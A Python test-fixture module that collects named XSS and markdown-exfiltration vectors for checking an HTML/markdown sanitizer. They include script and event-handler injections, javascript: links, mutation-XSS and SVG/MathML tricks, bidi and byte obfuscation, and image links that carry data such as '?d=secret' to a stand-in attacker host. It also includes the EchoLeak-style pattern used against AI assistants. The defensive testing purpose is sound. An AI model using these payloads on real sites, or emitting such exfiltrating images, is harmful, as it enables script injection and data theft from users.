"""Texts that try to make a reader's browser ask a stranger or run a script. Each has a name for the failure report.

Sources of the forms: DOMPurify's attack classes, CommonMark's and GFM's link grammar, and the published EchoLeak
chain (reference-style images and links that carry data out in their address).
"""

from dataclasses import dataclass

from tests.browser.corpus_links import AUTOLINKS, EVIL, GOOD, LINKS, REFERENCES, RUN

__all__ = ["EVIL", "GOOD", "VECTORS", "Vector"]


@dataclass(frozen=True, slots=True)
class Vector:
    """One hostile text. `name` is unique."""

    name: str
    text: str


_TAGS = [
    f"<script>{RUN}</script>",
    f"<script src=https://{EVIL}/s.js></script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=https://{EVIL}/p.gif>",
    f"<IMG SRC='https://{EVIL}/p.gif?d=secret'>",
    f"<img srcset='https://{EVIL}/p.gif 2x'>",
    f"<img/src=x/onerror={RUN}>",
    f"<img\nsrc=x\nonerror={RUN}>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<picture><source srcset=https://{EVIL}/p.gif><img></picture>",
    f"<video poster=https://{EVIL}/p.gif><source src=https://{EVIL}/v onerror={RUN}></video>",
    f"<audio src=https://{EVIL}/a autoplay onloadstart={RUN}></audio>",
    f"<video><track src=https://{EVIL}/t default></video>",
    f"<iframe src=https://{EVIL}/></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=https://{EVIL}/o></object>",
    f"<embed src=https://{EVIL}/e>",
    f"<applet code=https://{EVIL}/a></applet>",
    f"<frameset><frame src=https://{EVIL}/></frameset>",
    f"<link rel=stylesheet href=https://{EVIL}/c.css>",
    f"<link rel=prefetch href=https://{EVIL}/>",
    f"<link rel=dns-prefetch href=//{EVIL}>",
    f"<link rel=preconnect href=https://{EVIL}>",
    f"<link rel=icon href=https://{EVIL}/i.ico>",
    f"<style>@import 'https://{EVIL}/c.css';</style>",
    f"<style>*{{background:url(https://{EVIL}/b)}}</style>",
    f"<div style='background:url(https://{EVIL}/b)'>x</div>",
    f"<p style='list-style-image:url(https://{EVIL}/b)'>x",
    f"<base href=https://{EVIL}/>",
    f"<meta http-equiv=refresh content='0;url=https://{EVIL}/'>",
    f"<form action=https://{EVIL}/><input autofocus onfocus={RUN}></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<input type=image src=https://{EVIL}/i>",
    f"<body onload={RUN}>",
    f"<body background=https://{EVIL}/b>",
    f"<table background=https://{EVIL}/b><td background=https://{EVIL}/b>x</table>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href=https://{EVIL}/ ping=https://{EVIL}/p>x</a>",
    f"<a onmouseover={RUN}>x</a>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
    f"<title><img title='</title><img src=x onerror={RUN}>'></title>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<noembed><img title='</noembed><img src=x onerror={RUN}>'></noembed>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml-stylesheet href='https://{EVIL}/x.xsl'?>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM 'https://{EVIL}/'>]>&e;",
    f"<x onclick={RUN} tabindex=1 autofocus onfocus={RUN}>x",
    f"<div id=__proto__ name=attributes><img name=parentNode src=x onerror={RUN}></div>",
    f"<form id=a><input name=attributes><input name=nodeName></form><img src=x onerror={RUN}>",
    f"<portal src=https://{EVIL}/></portal>",
    f"<dialog open><img src=https://{EVIL}/></dialog>",
    f"<slot onslotchange={RUN}><img src=https://{EVIL}/></slot>",
    f"<bdo dir=rtl><img src=x onerror={RUN}></bdo>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<bgsound src=https://{EVIL}/b>",
    f"<isindex action=https://{EVIL}/ type=image src=https://{EVIL}/i>",
    f"<helpgraph-widget data-server=https://{EVIL}></helpgraph-widget>",
]

_FOREIGN = [
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=https://{EVIL}/s.js /></svg>",
    f"<svg><image href=https://{EVIL}/i /></svg>",
    f"<svg><use href=https://{EVIL}/s#x /></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#x'/></svg>",
    f"<svg><feImage href=https://{EVIL}/i /></svg>",
    f"<svg><a href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg><animate attributeName=href values=javascript:{RUN} /><a id=x><text>x</text></a></svg>",
    f"<svg><set attributeName=onmouseover to={RUN} /></svg>",
    f"<svg><foreignObject><iframe src=https://{EVIL}/></foreignObject></svg>",
    f"<svg><style>@import 'https://{EVIL}/c.css'</style></svg>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<svg><title><style><img title='</style><img src=x onerror={RUN}>'>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<math><mtext><option><x></option><mglyph><svg><mtext><style><a title='</style><img src=x onerror={RUN}>'>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
]

_IMAGES = [
    f"![x](https://{EVIL}/p.gif)",
    f"![x](https://{EVIL}/p.gif?d=secret 'title')",
    f"![x](<https://{EVIL}/p.gif>)",
    f"![x](//{EVIL}/p.gif)",
    f"![x](http://{EVIL}/p.gif)",
    f"![x](https://{GOOD}/p.gif)",
    f"![x](https://{GOOD}.{EVIL}/p.gif)",
    "![x](/p.gif)",
    "![x](data:image/png;base64,AAAA)",
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"![x](javascript:{RUN})",
    f"![x][r]\n\n[r]: https://{EVIL}/p.gif",
    f"![r]\n\n[r]: https://{EVIL}/p.gif",
    f"![r][]\n\n[r]: <https://{EVIL}/p.gif> 'x'",
    f"[![x](https://{EVIL}/p.gif)](https://{GOOD}/)",
    f"![a![b](https://{EVIL}/1)](https://{EVIL}/2)",
    f"**![x](https://{EVIL}/p.gif)**",
    f"# ![x](https://{EVIL}/p.gif)",
    f"> ![x](https://{EVIL}/p.gif)",
    f"- ![x](https://{EVIL}/p.gif)",
    f"| a |\n|---|\n| ![x](https://{EVIL}/p.gif) |",
    f"![\n](https://{EVIL}/p.gif)",
    f"!\\[x](https://{EVIL}/p.gif)",
    f"![x]( https://{EVIL}/p.gif )",
    f"![x](https://{EVIL}/p.gif =100x100)",
    f'![x"onerror="{RUN}](x)',
    f'![x](x"onerror="{RUN})',
    f"![x](x' onerror='{RUN})",
]

_CODE_AND_BLOCKS = [
    f"```html\n<img src=x onerror={RUN}>\n```",
    f"```\n</code></pre><script>{RUN}</script>",
    f'```"onmouseover="{RUN}\nx\n```',
    f"    <script>{RUN}</script>",
    f"`<img src=x onerror={RUN}>`",
    f"``` `<script>{RUN}</script>` ```",
    f"# <img src=x onerror={RUN}>",
    f"<div>\n\n# a\n\n<script>{RUN}</script>\n\n</div>",
    f"* <svg onload={RUN}>\n  * <img src=x onerror={RUN}>",
    f"1. <img src=x onerror={RUN}>",
    f"- [ ] <img src=x onerror={RUN}>",
    f"- [x](javascript:{RUN})",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <svg onload={RUN}> | [x](javascript:{RUN}) |",
    f"> <script>{RUN}</script>\n<img src=x onerror={RUN}>",
    f"a\n<img src=x onerror={RUN}>\n===",
    f"~~<img src=x onerror={RUN}>~~",
    f"**<b onclick={RUN}>x</b>**",
    f"\\<img src=x onerror={RUN}\\>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "${" + RUN + "}{{" + RUN + "}}<%=" + RUN + "%>",
    f"---\nlayout: <script>{RUN}</script>\n---\nx",
    f":::html\n<script>{RUN}</script>\n:::",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    f'```mermaid\ngraph LR; A-->B; click A "javascript:{RUN}"\n```',
]

_BIDI_AND_BYTES = [
    f"\u202e<img src=x onerror={RUN}>\u202c",
    f"\u2066[x](javascript:{RUN})\u2069",
    f"\u2067https://{EVIL}/\u2069",
    f"\u200f\u200e\u061c<svg onload={RUN}>",
    f"<img\u0000 src=x onerror={RUN}>",
    f"<\u0000script>{RUN}</script>",
    f"<img\u000csrc=x\u000conerror={RUN}>",
    f"\ufeff<script>{RUN}</script>",
    f"\ud83d<script>{RUN}</script>".encode("utf-8", "replace").decode(),
    "".join(chr(0xE0000 + ord(letter)) for letter in f"![x](https://{EVIL}/)"),
    f"\u2028<script>{RUN}</script>\u2029",
    f"a\u0300\u0300\u0300\u0300<img src=x onerror={RUN}>",
    f"\u00ad<scr\u00adipt>{RUN}</scr\u00adipt>",
]

_DEEP = [
    ">" * 3_000 + f"<img src=x onerror={RUN}>",
    "- " * 1_500 + f"<img src=x onerror={RUN}>",
    "[" * 1_500 + f"x](javascript:{RUN})",
    "![" * 800 + f"](https://{EVIL}/)" * 800,
    "*" * 2_000 + f"<img src=x onerror={RUN}>",
    "_a" * 1_500,
    "`" * 1_999 + f"<script>{RUN}</script>",
    "<" * 2_000 + f"script>{RUN}",
    "".join(f"{'  ' * depth}- x\n" for depth in range(60)) + f"<img src=x onerror={RUN}>",
    "| a " * 200 + "|\n" + "|---" * 200 + "|\n" + f"| <img src=x onerror={RUN}> " * 50,
]

_GROUPS = {
    "tag": _TAGS,
    "foreign": _FOREIGN,
    "image": _IMAGES,
    "link": LINKS,
    "reference": REFERENCES,
    "autolink": AUTOLINKS,
    "block": _CODE_AND_BLOCKS,
    "bytes": _BIDI_AND_BYTES,
    "deep": _DEEP,
}

VECTORS = tuple(Vector(f"{group}-{n}", text) for group, texts in _GROUPS.items() for n, text in enumerate(texts, 1))
